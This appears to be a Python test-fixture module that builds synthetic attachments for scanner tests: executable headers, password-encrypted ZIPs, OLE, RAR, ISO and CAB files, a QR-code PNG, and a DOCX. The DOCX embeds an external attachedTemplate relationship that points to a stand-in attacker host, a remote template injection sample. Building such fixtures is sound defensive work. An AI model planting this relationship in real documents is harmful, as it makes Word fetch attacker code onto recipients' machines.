"""Attachments built here for the attachment tests (no sample of real malware is needed): executables' headers,
ZIP (with ZipCrypto), OLE, RAR 4 and 5, ISO, CAB, DOCX and a QR code in a PNG."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import numpy as np
import zxingcpp
from PIL import Image

PE = b"MZ" + b"\x00" * 0x3A + struct.pack("<I", 0x80) + b"\x00" * 0x40 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56


def make_zip(members: list[tuple[str, bytes]], encrypted: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    patched = bytearray(buffer.getvalue())
    for name in encrypted:  # zipfile cannot encrypt: set bit 0 of the flags as an encrypting tool would
        for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
            at = patched.find(signature)
            while at >= 0:
                if patched[at + name_at : at + name_at + len(name)] == name.encode():
                    patched[at + flags_at] |= 1
                at = patched.find(signature, at + 4)
    return bytes(patched)


def zipcrypto(name: str, data: bytes, password: bytes) -> bytes:
    """A one-member ZIP, stored and encrypted with the traditional PKWARE cipher (zipfile only decrypts it)."""

    def update(key: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), key ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    keys = [0x12345678, 0x23456789, 0x34567890]

    def feed(byte: int) -> None:
        keys[0] = update(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = update(keys[2], keys[1] >> 24)

    for byte in password:
        feed(byte)
    crc = zlib.crc32(data)
    plain = bytes(11) + bytes([crc >> 24]) + data  # the last header byte checks the password
    cipher = bytearray()
    for byte in plain:
        temp = keys[2] | 2
        cipher.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        feed(byte)
    encoded = name.encode()
    fields = struct.pack("<HHHHHIII", 20, 1, 0, 0, 0x21, crc, len(cipher), len(data))
    local = b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + bytes(cipher)
    central = b"PK\x01\x02" + struct.pack("<H", 20) + fields
    central += struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def make_ole(storages: dict[str, list[str]], streams: tuple[str, ...] = (), clsid: bytes = b"\x00" * 16) -> bytes:
    """A minimal Compound File (v3, 512-byte sectors): a FAT sector, one directory sector, empty streams.
    storages: {storage name: [child storage names]}; streams: empty streams under the root."""
    entries: list[tuple[str, int]] = [("Root Entry", 5)]
    children: dict[int, list[int]] = {0: []}
    for stream in streams:
        entries.append((stream, 2))
        children[0].append(len(entries) - 1)
    for storage, inner in storages.items():
        entries.append((storage, 1))
        index = len(entries) - 1
        children[0].append(index)
        children[index] = []
        for name in inner:
            entries.append((name, 1))
            children[index].append(len(entries) - 1)
    assert len(entries) <= 4
    none = 0xFFFFFFFF
    directory = b""
    right_of = {kids[i]: kids[i + 1] for kids in children.values() for i in range(len(kids) - 1)}
    for index, (name, kind) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        child = children.get(index, [])
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", none, right_of.get(index, none), child[0] if child else none)
            + (clsid if index == 0 else b"\x00" * 16)
            + b"\x00" * 20
            + struct.pack("<IQ", 0xFFFFFFFE, 0)
        )
    directory = directory.ljust(512, b"\x00")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
        + b"\xff" * 4 * 108
    )
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    return header + fat + directory


def qr_png(text: str, size: int = 400) -> bytes:
    barcode = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    code = Image.fromarray(np.asarray(zxingcpp.write_barcode_to_image(barcode, scale=1)))
    canvas = Image.new("L", (size, size), 255)
    canvas.paste(code.resize((size // 2, size // 2), Image.Resampling.NEAREST), (size // 4, size // 4))
    buffer = io.BytesIO()
    canvas.save(buffer, "PNG")
    return buffer.getvalue()


def rar5(names: list[str]) -> bytes:
    def vint(value: int) -> bytes:
        out = bytearray()
        while True:
            byte, value = value & 0x7F, value >> 7
            out.append(byte | (0x80 if value else 0))
            if not value:
                return bytes(out)

    def block(body: bytes) -> bytes:
        return b"\x00" * 4 + vint(len(body)) + body

    out = b"Rar!\x1a\x07\x01\x00" + block(vint(1) + vint(0) + vint(0))
    for name in names:
        encoded = name.encode()
        fields = vint(0) + vint(10) + vint(0x20) + vint(0) + vint(2) + vint(len(encoded)) + encoded
        out += block(vint(2) + vint(2) + vint(0) + fields)  # type file, flags: data area (empty)
    return out + block(vint(5) + vint(0) + vint(0))


def rar4(names: list[str], encrypted: bool = False) -> bytes:
    out = b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, 0, 13) + b"\x00" * 6
    for name in names:
        encoded = name.encode()
        flags = 0x8000 | (0x04 if encrypted else 0)
        head = struct.pack("<IIBIIBBHI", 0, 0, 2, 0, 0, 29, 0x30, len(encoded), 0x20) + encoded
        out += struct.pack("<HBHH", 0, 0x74, flags, 7 + len(head)) + head
    return out + struct.pack("<HBHH", 0, 0x7B, 0, 7)


def iso(names: list[str]) -> bytes:
    def record(name: bytes, extent: int, size: int, directory: bool) -> bytes:
        """A directory record: length, extended attributes, extent and size (both byte orders), date, flags..."""
        body = b"\x00" + struct.pack("<I", extent) + struct.pack(">I", extent)
        body += struct.pack("<I", size) + struct.pack(">I", size) + b"\x00" * 7
        body += bytes([2 if directory else 0, 0, 0]) + struct.pack("<H", 1) + struct.pack(">H", 1)
        body += bytes([len(name)]) + name
        body += b"\x00" * (len(body) % 2 == 0)  # records have an even length
        return bytes([len(body) + 1]) + body

    root = record(b"\x00", 18, 2048, True)
    pvd = b"\x01CD001\x01".ljust(156, b"\x00") + root.ljust(34, b"\x00")
    listing = root + record(b"\x01", 18, 2048, True)
    for name in names:
        listing += record(f"{name};1".encode(), 19, 10, False)
    image = b"\x00" * (16 * 2048) + pvd.ljust(2048, b"\x00") + b"\xffCD001\x01".ljust(2048, b"\x00")
    return image + listing.ljust(2048, b"\x00") + b"\x00" * 2048


def cab(names: list[str]) -> bytes:
    files = b"".join(struct.pack("<IIHHHH", 10, 0, 0, 0, 0, 0x20) + n.encode() + b"\x00" for n in names)
    offset = 36 + 8
    header = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, 0, 0, offset, 0, 3, 1, 1, len(names), 0, 0, 0)
    return header + b"\x00" * 8 + files


RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    b'Target="styles.xml"/></Relationships>'
)


def docx(*extra: tuple[str, bytes]) -> bytes:
    base = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
    return make_zip([*base, ("word/_rels/settings.xml.rels", RELS), *extra])
